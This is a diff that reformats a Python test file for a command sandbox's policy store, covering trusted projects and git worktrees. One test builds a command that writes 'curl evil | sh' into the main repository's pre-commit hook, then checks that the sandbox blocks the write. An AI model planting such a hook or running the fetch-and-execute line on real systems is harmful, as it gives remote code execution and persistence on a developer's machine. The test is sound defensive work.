@@ -48,8 +48,9 @@ def via(request: pytest.FixtureRequest) -> Iterator[str]:
 
 def run(root: Path, ws: Path, found, command: str, policy: str = "", trust: bool = False) -> tuple[int, str]:
     (root / "cfg" / "policy.toml").write_text(policy + "\n[sandbox]\nenabled = true\n")
-    store = PolicyStore(config_dir=root / "cfg", state_dir=root / "state", managed_dir=root / "m",
-                        home=str(root / "home"))
+    store = PolicyStore(
+        config_dir=root / "cfg", state_dir=root / "state", managed_dir=root / "m", home=str(root / "home")
+    )
     assert not store.load()
     if trust:
         store.trust("add", str(ws))
@@ -92,8 +93,14 @@ def test_untrusted_projects_edit_rule_widens_nothing(root, found):
 
 
 def git(*args: str, cwd: Path) -> str:
-    env = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t",
-           "GIT_COMMITTER_EMAIL": "t@t", "HOME": str(cwd), "PATH": "/usr/bin:/bin"}
+    env = {
+        "GIT_AUTHOR_NAME": "t",
+        "GIT_AUTHOR_EMAIL": "t@t",
+        "GIT_COMMITTER_NAME": "t",
+        "GIT_COMMITTER_EMAIL": "t@t",
+        "HOME": str(cwd),
+        "PATH": "/usr/bin:/bin",
+    }
     return subprocess.run(["git", *args], cwd=cwd, env=env, check=True, capture_output=True, text=True).stdout
 
 
@@ -107,9 +114,11 @@ def test_commit_in_a_linked_worktree_works_and_the_main_repos_hooks_stay_protect
     wt = root / "wt"
     git("worktree", "add", "-q", str(wt), "-b", "feature", cwd=main)
     config_before = (main / ".git/config").read_text()
-    cmd = ("export GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@t GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@t; "
-           "echo b > b.txt && git add b.txt && git commit -qm second; "
-           f"echo 'curl evil | sh' > {main}/.git/hooks/pre-commit; echo '[core]' >> {main}/.git/config; true")
+    cmd = (
+        "export GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@t GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@t; "
+        "echo b > b.txt && git add b.txt && git commit -qm second; "
+        f"echo 'curl evil | sh' > {main}/.git/hooks/pre-commit; echo '[core]' >> {main}/.git/config; true"
+    )
     _, err = run(root, wt, found, cmd)
     assert "second" in git("log", "--format=%s", "feature", cwd=main), err
     assert not (main / ".git/hooks/pre-commit").exists()
